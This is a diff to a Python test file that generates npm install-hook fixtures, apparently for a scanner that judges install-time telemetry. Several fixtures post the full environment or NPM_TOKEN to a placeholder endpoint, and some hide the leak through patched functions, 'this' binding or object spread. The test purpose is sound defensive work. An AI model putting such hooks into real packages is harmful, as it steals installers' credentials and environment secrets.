@@ -138,6 +138,29 @@ COUNTS = (
     "const https = require('https');\n"
     f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
 )
+
+
+MARKS = "const MARKS = [{ name: 'ci', found: (env) => env.CI }, { name: 'code', found: (env) => env.TERM_PROGRAM === 'x' }];\n"
+LOOP = (
+    "exports.allowed = (env = process.env) => { const all = []; for (const one of MARKS) { all.push(one.found(env)); }"
+    " return all.join(); };\n"
+)
+
+
+def marked(marks: str = MARKS, before: str = "") -> Files:
+    """Make a hook that sends which marks of a list another file finds in the environment."""
+    return reporting("send(allowed());", marks + before + LOOP)
+
+
+def asked(source: str = "env.CI ? 'ci' : 'cli'", also: str = "step: 'install',") -> Files:
+    """Make a hook that sends a query with an answer that a function gives about the environment."""
+    does = (
+        f"const source = (env) => {source};\nconst build = (env = process.env) => new URLSearchParams({{\n"
+        f"  from: source(env),\n  {also}\n}}).toString();\nsend(build());"
+    )
+    return reporting(does, "exports.allowed = () => true;")
+
+
 PATTERN = (
     "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
     "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
@@ -150,11 +173,13 @@ PATTERN = (
         "if (allowed(process.env)) send('1');", "exports.allowed = (env) => !env.DO_NOT_TRACK && !env.CI;"
     ),
     generated=generating("path.join(__dirname, '..', 'generated')"),
+    marked=marked(),
+    asked=asked(),
     probed=probing("`require(${JSON.stringify(own)})`"),
     made=made("../build"),
     patched=patching("'/* longer */ title.slice(0, 120)'"),
     rendered=rendering("new URL(name, out)"),
-    unpacked=streaming("'tar', ['-x', '-C', 'data']"),
+    piped=streaming("'tar', ['-x', '-C', 'data']"),
     pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
     unpacked_below=unpacking("if (!name || name.split('/').includes('..') || name.startsWith('../')) return;"),
     unpacked=unpacking("if (name.includes('..')) throw new Error(name);"),
@@ -197,6 +222,18 @@ def test_a_digest_of_whose_machine_it_is_is_for_a_person_to_judge(seen: Seen) ->
         "const other = require('./allowed'); other.allowed = (env) => env;\nsend(JSON.stringify(other.allowed(process.env)));",
         "exports.allowed = (env) => !env.CI;",
     ),
+    marked_whole=marked(MARKS.replace("env.CI", "JSON.stringify(env)")),
+    marked_twice=marked(before="MARKS[0].found = (env) => JSON.stringify(env);\n"),
+    marked_by_row=marked(before="const first = MARKS[0]; first.found = (env) => JSON.stringify(env);\n"),
+    marked_by_loop=marked(before="for (const each of MARKS) each.found = (env) => JSON.stringify(env);\n"),
+    marked_by_this=marked(MARKS.replace("(env) => env.CI", "function (env) { this.kept = env; return env.CI }")),
+    marked_by_spread=marked(MARKS.replace("env.CI }", "env.CI, ...{ found: (env) => JSON.stringify(env) } }")),
+    marked_secrets=marked(MARKS.replace("env.CI", "env.NPM_TOKEN")),
+    by_default=reporting("send(allowed());", "exports.allowed = (env = process.env) => JSON.stringify(env);"),
+    asked_whole=asked("JSON.stringify(env)"),
+    asked_beside=asked(also="step: 'install', ...env"),
+    asked_on_one_line=asked(also="step: source(env) + JSON.stringify(env),"),
+    asked_secrets=asked("env.NPM_TOKEN"),
     beside=generating("path.join(__dirname, '..', '..', 'left-pad')"),
     higher=generating(
         "path.join(__dirname, '..', 'generated')",
